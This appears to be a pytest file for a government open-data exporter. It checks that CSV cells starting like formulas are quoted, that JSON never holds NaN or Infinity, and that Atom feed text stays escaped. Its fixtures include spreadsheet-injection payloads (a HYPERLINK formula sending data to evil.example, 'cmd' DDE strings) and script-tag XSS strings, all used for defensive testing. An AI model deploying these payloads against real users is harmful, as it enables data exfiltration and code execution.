"""Open data and feeds carry no injection (issue 16, "open-data"): spreadsheet-safe CSV cells, JSON that is
always valid JSON (never NaN or Infinity), Atom whose staff text is text and always well-formed XML."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import math

import pytest
from conftest import decision_yaml
from lxml import etree

from transparency import compliance, enterprises, exports, feeds
from transparency.load import parse_text
from transparency.schema import Field, obj

ATOM = "{http://www.w3.org/2005/Atom}"


# -- CSV cells -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"點此")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\t",
        "- 工人未繫安全帶\n- 現場無人監護",  # a Markdown list: legitimate text, still a formula start for Excel
        "-",
        "+86 0731 1234",  # a telephone-like text, not a plain number
        "＝HYPERLINK（1）",
        "＋1",
        "－某",
        "＠某",
        "  =1+1",  # blanks first: a spreadsheet that trims spaces on import would run it
        "\u3000=1+1",  # an ideographic space first
        "\n=1+1",
    ],
)
def test_a_formula_like_cell_gets_a_leading_quote(cell):
    assert exports.spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "示範縣宏達化工有限公司",
        "50000",
        "0",
        "-5",  # a plain number is read as a number, never as a formula
        "+5",
        "-0.15",
        "1.5e3",
        "-1e-3",
        "2026-03-01",
        "2026-Q2",
        "true",
        "'=already quoted",  # a leading ' is no formula start: not doubled
        "a=b+c",
        "經查，-2+3",
        '[{"amount": 50000, "type": "fine"}]',
        "https://example.gov.cn/=x",
    ],
)
def test_text_numbers_and_dates_stay_as_they_are(cell):
    assert exports.spreadsheet_safe(cell) == cell


def small_set(records: list[dict]) -> exports.OpenDataset:
    schema = obj(
        "row",
        "列",
        Field("name", "str", "名稱"),
        Field("amount", "int", "金額"),
        Field("share", "number", "比例"),
        Field("day", "date", "日期"),
        Field("tags", "list", "標籤", item=Field("tag", "str", "標籤")),
        Field("penalties", "list", "處罰", item=obj("p", "處罰", Field("detail", "str", "說明"))),
        Field("party", "object", "當事人", fields=(Field("representative", "str", "代表人"),)),
    )
    return exports.OpenDataset("rows", "測試", "測試資料", schema, records, None)


def read_rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_csv_prefixes_every_formula_cell_and_json_keeps_the_raw_value():
    record = {
        "name": '=HYPERLINK("http://evil.example","點此")',
        "amount": 50000,
        "share": 0.15,
        "day": "2026-03-01",
        "tags": ["@SUM(A1)", "正常"],
        "penalties": [{"detail": "=1+1"}],
        "party": {"representative": "-2+3+cmd|' /C calc'!A0"},
    }
    s = small_set([record, {"name": "示範縣某公司", "amount": 0, "share": 1, "day": "2026-12-31"}])
    rows = read_rows(s.csv())
    assert rows[0]["name"] == "'" + record["name"]
    assert rows[0]["tags"] == "'@SUM(A1)；正常"  # a list cell is one cell: its start is the first item's
    assert rows[0]["penalties"] == '[{"detail": "=1+1"}]'  # JSON text starts with "[": no formula
    assert rows[0]["party_representative"] == "'" + record["party"]["representative"]
    assert (rows[0]["amount"], rows[0]["share"], rows[0]["day"]) == ("50000", "0.15", "2026-03-01")
    assert rows[1] == {
        "name": "示範縣某公司",
        "amount": "0",
        "share": "1",
        "day": "2026-12-31",
        "tags": "",
        "penalties": "",
        "party_representative": "",
    }
    assert json.loads(s.json()) == s.records and json.loads(s.json())[0] == record  # JSON: values unchanged


def test_no_data_cell_of_the_csv_starts_like_a_formula():
    values = ["=a", "+b", "-c", "@d", "\te", "\rf", "＝g", "－h", "  =i", "\u3000@j", "正常"]
    s = small_set([{"name": v, "amount": -1} for v in values])
    for row, v in zip(read_rows(s.csv()), values, strict=True):
        assert row["name"] == (v if v == "正常" else "'" + v)
        assert row["name"].lstrip()[:1] not in exports.FORMULA_START
        assert row["amount"] == "-1"  # a number stays a number


# -- JSON: never NaN or Infinity -----------------------------------------------------------------


def strict_json(text: str):
    """Parse as a strict reader would: NaN, Infinity and -Infinity are not JSON."""

    def refuse(name):
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf])
@pytest.mark.parametrize("writer", ["json", "csv"])
def test_a_non_finite_number_stops_the_writer_with_a_finding(bad, writer):
    s = small_set([{"name": "甲", "share": 0.1}, {"name": "乙", "share": bad}])
    with pytest.raises(exports.ExportError) as caught:
        getattr(s, writer)()
    f = caught.value.finding
    assert (f.rule, f.level, f.path) == ("V13", "ERROR", f"data/rows.{writer}")
    assert "[1].share" in f.message and "修正：" in f.message
    assert ("NaN" if math.isnan(bad) else "無窮大") in f.message


def test_json_writers_refuse_nan_everywhere():
    with pytest.raises(exports.ExportError):
        exports.dumps({"a": [1, {"b": math.nan}]}, "data/x.json")
    with pytest.raises(exports.ExportError) as caught:
        exports.dumps({"a": [1, {"b": math.nan}]}, "data/x.json")
    assert "a[1].b" in caught.value.finding.message
    with pytest.raises(TypeError):  # anything else stays the error it is
        exports.dumps({"a": object()}, "data/x.json")


def test_schema_catalog_and_data_are_strict_json_and_say_what_the_csv_does():
    s = small_set([{"name": "=1", "amount": 3, "share": 0.5}])
    assert strict_json(s.json())[0]["name"] == "=1"
    schema = strict_json(s.json_schema("https://example.gov.cn/"))
    assert "'" in schema["description"] and "JSON" in schema["description"]
    catalog = strict_json(exports.catalog([s], "https://example.gov.cn/"))
    assert catalog["description"] == exports.CSV_NOTE
    assert catalog["datasets"][0]["csv"] == "https://example.gov.cn/data/rows.csv"


def test_a_nan_in_a_record_names_its_file_and_line():
    data, _ = parse_text("year: 2026\nrandom_checks:\n  count: 60\n  share: .nan\n")
    with pytest.raises(exports.ExportError) as caught:
        exports.check_finite(data, "data/plans/2026/yjj.yaml")
    f = caught.value.finding
    assert (f.rule, f.path, f.line) == ("V13", "data/plans/2026/yjj.yaml", 4)
    assert f.message.startswith("random_checks.share 是 NaN") and "修正：" in f.message
    data, _ = parse_text("penalties:\n  - {type: fine, amount: 1}\n  - {type: fine, amount: -.inf}\n")
    with pytest.raises(exports.ExportError) as caught:
        exports.check_finite(data, "x.yaml")
    assert (
        caught.value.finding.line == 3 and "penalties[1].amount 是 負無窮大" in caught.value.finding.message
    )
    exports.check_finite(parse_text("a: 1.5\nb: [1, 2]\n")[0], "x.yaml")  # finite: nothing raised


def test_open_data_of_a_dataset_with_a_nan_stops_at_the_record(project):
    """Whatever validation lets through, the exporter names the record's file and line (here: line 5)."""
    plan = """\
        year: 2026
        department: yjj
        approved: 2026-03-20
        published: 2026-03-25
        random_checks: {share: 0.15, count: 60, months: [2026-04]}
        supervision: 抽查。
        """
    ds, _ = project({"plans/2026/yjj.yaml": plan, "decisions/2026/yjj-2026-012.yaml": decision_yaml()})
    listed = ds.published_decisions
    companies = enterprises.build(listed, enterprises.listings(ds.published_blacklists), [])
    items = compliance.items(ds)
    ids = [s.id for s in exports.build(ds, companies, items)]
    assert ids.index("compliance") == ids.index("plans") + 1
    assert ids[-1] == "changelog"
    ds.sources["data/plans/2026/yjj.yaml"].data["random_checks"]["share"] = math.nan
    with pytest.raises(exports.ExportError) as caught:
        exports.build(ds, companies, items)
    assert caught.value.finding.format().startswith(
        "ERROR V13 data/plans/2026/yjj.yaml:5 random_checks.share"
    )


# -- Atom -------------------------------------------------------------------------------------------


def render(*entries: feeds.Entry, site_name: str = "示範縣") -> etree._Element:
    text = feeds.render(
        feeds.Feed("decisions", "最新處罰決定", list(entries)),
        "https://example.gov.cn/",
        site_name,
        dt.date(2026, 11, 30),
        "Asia/Shanghai",
    )["feeds/decisions.atom.xml"]
    text.encode("utf-8")  # no lone surrogate survives
    return etree.fromstring(text.encode("utf-8"), etree.XMLParser(recover=False, resolve_entities=False))


def test_feed_titles_and_summaries_are_text_never_markup():
    hostile = "<script>alert(1)</script>]]><![CDATA[x]]>&amp;<img src=x onerror=alert(2)>"
    root = render(
        feeds.Entry(f"示應急罰〔2026〕9號 {hostile}", "decisions/2026/x/", dt.date(2026, 3, 9), hostile)
    )
    entry = root.find(f"{ATOM}entry")
    summary, title = entry.find(f"{ATOM}summary"), entry.find(f"{ATOM}title")
    assert summary.get("type") == "text" and title.get("type") in (None, "text")
    assert summary.text == hostile  # exactly the staff's characters, as text
    assert title.text == f"示應急罰〔2026〕9號 {hostile}"
    assert len(summary) == 0 and len(title) == 0  # no child elements: nothing became markup
    assert {el.tag.split("}")[-1] for el in root.iter()} <= {
        "feed",
        "title",
        "link",
        "id",
        "updated",
        "subtitle",
        "entry",
        "published",
        "summary",
        "author",  # the feed's, RFC 4287: the site's name or organizer, as text
        "name",
        "uri",
    }


def test_feed_is_well_formed_xml_whatever_characters_reach_it():
    bad = "甲\x00\x01\x08\x0b\x0c\x1b\x7f\x85\x9f\ud800\udfff\ufffe\uffff乙\t丙\n丁"
    root = render(feeds.Entry(bad, "decisions/2026/x/", dt.date(2026, 3, 9), bad), site_name="示範縣\x01")
    entry = root.find(f"{ATOM}entry")
    assert entry.find(f"{ATOM}summary").text == "甲乙\t丙\n丁"
    assert entry.find(f"{ATOM}title").text == "甲乙\t丙\n丁"
    assert root.find(f"{ATOM}title").text == "示範縣：最新處罰決定"


def test_xml_text_keeps_every_legal_character():
    legal = "示範縣 ABC\t\n\r€😀\ue000\ufffd"
    assert feeds.xml_text(legal) == legal
